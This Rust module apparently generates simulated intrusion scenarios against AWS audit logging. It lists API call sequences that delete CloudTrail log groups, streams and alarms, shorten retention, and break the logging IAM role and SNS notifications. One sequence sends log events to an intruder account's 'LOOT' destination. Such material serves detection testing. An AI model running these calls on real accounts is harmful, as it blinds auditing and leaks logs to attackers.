//! B37 to B39: those who read the log.

use serde_json::{Value, json};

use super::{INTRUDER_ACCOUNT, LOOT, Step, Target, Way, way};

pub(super) fn ways(id: &str, target: &Target) -> Vec<Way> {
    match id {
        "B37" => log_group_and_alarms(target),
        "B38" => log_role(target),
        _ => topic(target),
    }
}

fn log_group_and_alarms(target: &Target) -> Vec<Way> {
    let logs = |operation, mut input: Value| {
        if let Some(members) = input.as_object_mut() {
            members.insert("logGroupName".to_owned(), target.log_group.clone().into());
        }
        vec![Step::new("logs", operation, input)]
    };
    let alarms = |operation| {
        let input = json!({"AlarmNames": ["trail-changed"]});
        vec![Step::new("cloudwatch", operation, input)]
    };
    let stream = format!("{}_CloudTrail_{}", target.account, target.region);
    let blind = json!({
        "filterName": "trail-changed", "filterPattern": "nothing",
        "metricTransformations": [{
            "metricName": "changes", "metricNamespace": "trail", "metricValue": "1",
        }],
    });
    let stranger = || {
        let region = &target.region;
        json!({
            "filterName": "to-analysis", "filterPattern": "",
            "destinationArn": format!("arn:aws:logs:{region}:{INTRUDER_ACCOUNT}:destination:{LOOT}"),
        })
    };
    let deaf = json!({
        "AlarmName": "trail-changed", "MetricName": "changes", "Namespace": "trail",
        "Statistic": "Sum", "Period": 300, "EvaluationPeriods": 1, "Threshold": 1_000_000,
        "ComparisonOperator": "GreaterThanOrEqualToThreshold", "ActionsEnabled": false,
    });
    vec![
        way("the log group", logs("DeleteLogGroup", json!({}))),
        way(
            "a log stream",
            logs("DeleteLogStream", json!({"logStreamName": stream})),
        ),
        way(
            "its retention",
            logs("PutRetentionPolicy", json!({"retentionInDays": 1})),
        ),
        way(
            "a metric filter",
            logs("DeleteMetricFilter", json!({"filterName": "trail-changed"})),
        ),
        way(
            "a metric filter that matches nothing",
            logs("PutMetricFilter", blind),
        ),
        way(
            "the events sent to a stranger",
            logs("PutSubscriptionFilter", stranger()),
        ),
        way(
            "the events sent to nobody",
            [
                logs("PutSubscriptionFilter", stranger()),
                logs(
                    "DeleteSubscriptionFilter",
                    json!({"filterName": "to-analysis"}),
                ),
            ]
            .concat(),
        ),
        way("an alarm", alarms("DeleteAlarms")),
        way(
            "an alarm that never rings",
            vec![Step::new("cloudwatch", "PutMetricAlarm", deaf)],
        ),
        way("its actions", alarms("DisableAlarmActions")),
    ]
}

fn log_role(target: &Target) -> Vec<Way> {
    let iam = |operation, mut input: Value| {
        if let Some(members) = input.as_object_mut() {
            members.insert("RoleName".to_owned(), target.log_role.clone().into());
        }
        Step::new("iam", operation, input)
    };
    let policy = || iam("DeleteRolePolicy", json!({"PolicyName": "write-logs"}));
    let nobody = json!({"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow",
        "Principal": {"Service": "ec2.amazonaws.com"},
        "Action": "sts:AssumeRole",
    }]});
    vec![
        way("its policy", vec![policy()]),
        way("the role", vec![policy(), iam("DeleteRole", json!({}))]),
        way(
            "its trust",
            vec![iam(
                "UpdateAssumeRolePolicy",
                json!({"PolicyDocument": nobody.to_string()}),
            )],
        ),
    ]
}

fn topic(target: &Target) -> Vec<Way> {
    let arn = target.topic_arn();
    let owner_only = json!({"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow",
        "Principal": {"AWS": format!("arn:aws:iam::{}:root", target.account)},
        "Action": "SNS:Publish",
        "Resource": arn,
    }]});
    let mut labelled = owner_only.clone();
    if let Some(Value::Array(statements)) = labelled.get_mut("Statement") {
        statements.push(json!({
            "Sid": "cloudtrail",
            "Effect": "Allow",
            "Principal": {"Service": "cloudtrail.amazonaws.com"},
            "Action": "SNS:Publish",
            "Resource": arn,
        }));
    }
    let subscription = format!("{arn}:00000001-0000-4000-8000-000000000000");
    let filter = json!({
        "SubscriptionArn": subscription,
        "AttributeName": "FilterPolicy",
        "AttributeValue": r#"{"sent_to":["nobody"]}"#,
    });
    vec![
        way(
            "the topic",
            vec![Step::new("sns", "DeleteTopic", json!({"TopicArn": arn}))],
        ),
        way(
            "its policy",
            vec![Step::new(
                "sns",
                "SetTopicAttributes",
                json!({
                    "TopicArn": arn,
                    "AttributeName": "Policy",
                    "AttributeValue": owner_only.to_string(),
                }),
            )],
        ),
        way(
            "a permission of its policy",
            vec![
                Step::new(
                    "sns",
                    "SetTopicAttributes",
                    json!({
                        "TopicArn": arn,
                        "AttributeName": "Policy",
                        "AttributeValue": labelled.to_string(),
                    }),
                ),
                Step::new(
                    "sns",
                    "RemovePermission",
                    json!({"TopicArn": arn, "Label": "cloudtrail"}),
                ),
            ],
        ),
        way(
            "a subscription",
            vec![Step::new(
                "sns",
                "Unsubscribe",
                json!({"SubscriptionArn": subscription}),
            )],
        ),
        way(
            "a subscription's filter",
            vec![Step::new("sns", "SetSubscriptionAttributes", filter)],
        ),
    ]
}
